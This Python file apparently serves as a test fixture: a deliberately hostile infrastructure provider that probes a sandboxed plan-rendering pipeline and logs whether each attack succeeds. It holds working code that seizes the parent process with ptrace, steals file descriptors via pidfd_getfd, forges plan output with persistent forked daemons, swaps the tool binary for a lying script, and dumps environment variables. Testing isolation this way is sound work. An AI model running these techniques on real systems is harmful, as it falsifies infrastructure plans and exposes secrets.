"""A provider that means harm: tries to change what stage ``render`` says of the plan, then serves like any other.

A program of its own, copied into a repository as the provider; ``real`` beside it is the provider it stands for. What
it is to try stands in ``/workspace-data/deed``; what became of it, a line for every attempt, in the file ``deeds`` of
its stage's scratch.
"""

import ctypes
import errno
import json
import os
import resource
import signal
import sys
import time
from collections.abc import Callable
from pathlib import Path

FORGED = json.dumps({"format_version": "1.2", "resource_changes": [], "forged": True}).encode()
RENDER = Path("/scratch/render")
PLAN_JSON = RENDER / "plan.json"
PLACE = RENDER if RENDER.is_dir() else Path("/scratch/terraform")
TOOL = os.getppid()
VICTIMS = {"tool": TOOL, "runner": 1}
NUMBERS = range(24)
PTRACE_SEIZE = 0x4206
PIDFD_GETFD = 438

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.syscall.restype = ctypes.c_long


class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def tell(line: str) -> None:
    with (PLACE / "deeds").open("a") as deeds:
        deeds.write(f"{line}\n")


def attempt(what: str, act: Callable[..., object], *arguments: object) -> None:
    """Try something and tell how it ended: done, or refused and why."""
    try:
        act(*arguments)
    except OSError as error:
        tell(f"refused {what}: {errno.errorcode.get(error.errno or 0, error.errno)}")
    else:
        tell(f"done {what}")


def call(result: int) -> int:
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def aside(act: Callable[[], None]) -> None:
    """Do it in a process of its own that does not end when it is asked to."""
    if os.fork():
        return
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.setsid()
    nothing = os.open("/dev/null", os.O_RDWR)
    for descriptor in range(3):
        os.dup2(nothing, descriptor)
    try:
        act()
    finally:
        os._exit(0)


def forge(descriptor: int) -> None:
    """Keep what lies behind a descriptor forged for as long as this is possible."""

    def keep() -> None:
        while True:
            try:
                os.ftruncate(descriptor, 0)
                os.pwrite(descriptor, FORGED, 0)
            except OSError:  # a pipe: once is enough
                os.write(descriptor, FORGED)
                return
            time.sleep(0.001)

    aside(keep)


def forge_opened(path: str) -> None:
    forge(os.open(path, os.O_WRONLY))


def forge_duplicate(pidfd: int, number: int) -> None:
    forge(call(libc.syscall(PIDFD_GETFD, pidfd, number, 0)))


def descriptors() -> None:
    for name, victim in VICTIMS.items():
        attempt(f"list descriptors of {name}", os.listdir, f"/proc/{victim}/fd")
        for number in NUMBERS:
            attempt(f"open descriptor of {name}", forge_opened, f"/proc/{victim}/fd/{number}")


def getfd() -> None:
    for name, victim in VICTIMS.items():
        pidfd = os.pidfd_open(victim)
        for number in NUMBERS:
            attempt(f"duplicate descriptor of {name}", forge_duplicate, pidfd, number)


def getfd_at_the_end() -> None:
    """Ask for the tool's output all the time, also while the tool ends."""
    pidfd = os.pidfd_open(TOOL)

    def ask() -> None:
        while True:
            taken = libc.syscall(PIDFD_GETFD, pidfd, 1, 0)
            if taken >= 0:
                tell("done duplicate output of the ending tool")
                forge(taken)
                return
            if ctypes.get_errno() == errno.ESRCH:
                tell("refused duplicate output of the ending tool: ESRCH")
                return

    for _ in range(2):
        aside(ask)


def copy(verb: str, victim: int) -> None:
    """Copy between the victim's memory and ours; there need not be anything at the address."""
    own = ctypes.create_string_buffer(8)
    local, remote = Vector(ctypes.addressof(own), 8), Vector(0x10000, 8)
    try:
        call(getattr(libc, verb)(victim, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
    except OSError as error:
        if error.errno != errno.EFAULT:
            raise


def memory() -> None:
    for name, victim in VICTIMS.items():
        attempt(f"open memory of {name}", os.open, f"/proc/{victim}/mem", os.O_RDWR)
        attempt(f"read environment of {name}", os.open, f"/proc/{victim}/environ", os.O_RDONLY)
        attempt(f"read mappings of {name}", os.open, f"/proc/{victim}/maps", os.O_RDONLY)
        for verb in ("process_vm_readv", "process_vm_writev"):
            attempt(f"{verb} of {name}", copy, verb, victim)


def seize(victim: int) -> None:
    call(libc.ptrace(PTRACE_SEIZE, victim, None, None))


def trace() -> None:
    for name, victim in VICTIMS.items():
        attempt(f"trace {name}", seize, victim)


def inherited() -> None:
    for entry in sorted(os.listdir("/proc/self/fd"), key=int):  # noqa: PTH208
        try:
            tell(f"has {os.readlink(f'/proc/self/fd/{entry}')}")  # noqa: PTH115
            if int(entry) > 2:
                os.write(int(entry), FORGED)
        except OSError:
            continue


def environment() -> None:
    for name, value in os.environ.items():
        tell(f"env {name}={value}")


def limits() -> None:
    for name, victim in VICTIMS.items():
        attempt(f"limit {name}", resource.prlimit, victim, resource.RLIMIT_FSIZE, (64, 64))


def file() -> None:
    PLAN_JSON.write_bytes(FORGED)
    tell("done file")


def folder() -> None:
    (PLAN_JSON / "within").mkdir(parents=True)
    tell("done folder")


def link() -> None:
    elsewhere = RENDER / "elsewhere"
    elsewhere.write_bytes(FORGED)
    PLAN_JSON.symlink_to(elsewhere)
    tell("done link")


def pipe() -> None:
    os.mkfifo(PLAN_JSON)
    tell("done pipe")


def rewrite() -> None:
    """Rewrite the file if it is there, but never create it: nothing would be proven then."""
    try:
        descriptor = os.open(PLAN_JSON, os.O_WRONLY | os.O_TRUNC)
    except OSError:
        return
    os.write(descriptor, FORGED)
    os.close(descriptor)


def daemon() -> None:
    def keep() -> None:
        while True:
            rewrite()

    aside(keep)
    tell("done daemon")


def swarm() -> None:
    """Processes that have ended before anybody who looks for them can find them; their children go on."""

    def flee() -> None:
        while True:
            if os.fork():
                os._exit(0)
            rewrite()

    for _ in range(4):
        aside(flee)
    tell("done swarm")


def exchange() -> None:
    """In ``terraform``: put a program in the place of the tool that is run in ``render``."""
    if PLACE == RENDER:
        return
    tool = Path("/work/tool/tofu")
    liar = f"#!/bin/sh\ncat <<'end'\n{FORGED.decode()}\nend\n"
    attempt("chmod", tool.chmod, 0o755)
    attempt("unlink", tool.unlink)
    attempt("write", tool.write_text, liar)
    attempt("move", tool.parent.rename, "/work/moved")
    attempt("make", tool.parent.mkdir)
    attempt("write again", tool.write_text, liar)
    attempt("chmod again", tool.chmod, 0o755)


def main() -> None:
    deed = Path("/workspace-data/deed")
    wanted = deed.read_text().strip() if deed.exists() else ""
    if wanted and (PLACE == RENDER or wanted == "exchange"):
        globals()[wanted]()
    real = Path(sys.argv[0]).with_name("real")
    os.execv(real, [str(real), *sys.argv[1:]])  # noqa: S606


if __name__ == "__main__":
    main()
